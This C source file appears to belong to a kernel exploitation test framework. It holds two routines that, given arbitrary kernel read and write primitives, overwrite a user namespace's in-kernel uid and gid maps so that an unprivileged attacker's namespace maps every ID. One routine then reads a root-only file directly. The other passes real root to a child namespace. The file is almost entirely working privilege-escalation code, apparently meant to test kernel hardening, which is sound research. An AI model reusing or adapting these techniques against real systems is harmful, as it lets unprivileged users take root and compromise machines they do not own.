// SPDX-License-Identifier: GPL-2.0-only
/* Attacks on whom the attacker's own user namespace has, and one below it. */
#include <sched.h>
#include <stdio.h>
#include <sys/mman.h>
#include <unistd.h>

#include "attack.h"
#include "creds.h"
#include "files.h"
#include "list.h"
#include "objects.h"

#define UID_MAP		"/proc/self/uid_map"
#define GID_MAP		"/proc/self/gid_map"
#define MAP_TEXT	"0 1000 1"	/* nobody but the attacker */
#define MAPS_SIZE	256		/* of both, with which a namespace begins */
#define NR_MAPS		2
#define ALL_IDS		65536

/* Where both have their first entry; returns how many there are. */
static int find_maps(uint64_t ns, uint64_t *maps)
{
	uint32_t words[MAPS_SIZE / sizeof(uint32_t)];
	int i, nr = 0;

	if (kread(ns, words, sizeof(words)))
		return 0;
	for (i = 0; i + 3 <= MAPS_SIZE / (int)sizeof(*words) && nr < NR_MAPS; i++)
		if (!words[i] && words[i + 1] == ATTACKER_UID && words[i + 2] == 1)
			maps[nr++] = ns + i * sizeof(*words);
	return nr;
}

static int set_maps(const uint64_t *maps, uint32_t lower, uint32_t count)
{
	uint32_t entry[] = { 0, lower, count };
	int err = 0, i;

	for (i = 0; i < NR_MAPS; i++)
		err = err ?: kwrite(maps[i], entry, sizeof(entry));
	return err;
}

static bool map_own_ids(uint64_t ns, uint64_t *maps)
{
	return !file_write(UID_MAP, MAP_TEXT) && !file_write("/proc/self/setgroups", "deny") &&
	       !file_write(GID_MAP, MAP_TEXT) && find_maps(ns, maps) == NR_MAPS;
}

enum outcome user_ns_map(void)
{
	uint64_t slot = enter_namespace(), maps[NR_MAPS];
	char text[64];
	bool may;
	int err;

	if (!slot || !map_own_ids(kread64(slot), maps))
		return broken("no namespace of one's own, or no maps found");
	if (root_file_says(text, sizeof(text)))
		return broken("the file is everybody's");
	err = set_maps(maps, 0, ALL_IDS);
	may = root_file_says(text, sizeof(text));
	set_maps(maps, ATTACKER_UID, 1);
	if (!may)
		return lost("stores gave %d, %s is not read", err, ROOT_FILE);
	return won("maps of one's own user namespace say that it has everybody: %s says \"%s\"",
		   ROOT_FILE, text);
}

/* ---- whom a namespace below it gets ---- */

#define CHILD_TEXT	"0 0 1"		/* who is 0 in the one above */

/* Shared with who is in it. */
static struct {
	volatile bool entered, mapped, done, may;
} *inner;

static void look_from_inside(void)
{
	char text[64];

	inner->entered = !unshare(CLONE_NEWUSER);
	wait_for_flag(&inner->mapped);
	inner->may = root_file_says(text, sizeof(text));
	inner->done = true;
	pause();
}

static int write_map_of(pid_t pid, const char *name)
{
	char path[32];

	snprintf(path, sizeof(path), "/proc/%d/%s", pid, name);
	return file_write(path, CHILD_TEXT);
}

enum outcome user_ns_child(void)
{
	uint64_t slot = enter_namespace(), maps[NR_MAPS];
	int err;
	pid_t pid;

	if (!slot || !map_own_ids(kread64(slot), maps))
		return broken("no namespace of one's own, or no maps found");
	inner = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	pid = fork();
	if (!pid)
		look_from_inside();
	if (!wait_for_flag(&inner->entered))
		return broken("no namespace below it");
	set_maps(maps, 0, ALL_IDS);
	err = write_map_of(pid, "uid_map") ?: write_map_of(pid, "gid_map");
	set_maps(maps, ATTACKER_UID, 1);
	inner->mapped = true;
	if (!wait_for_flag(&inner->done) || !inner->may)
		return lost("writing the maps gave %d, %s is not read", err, ROOT_FILE);
	return won("a namespace below one's own, which was said to have everybody, got root: %s is read",
		   ROOT_FILE);
}
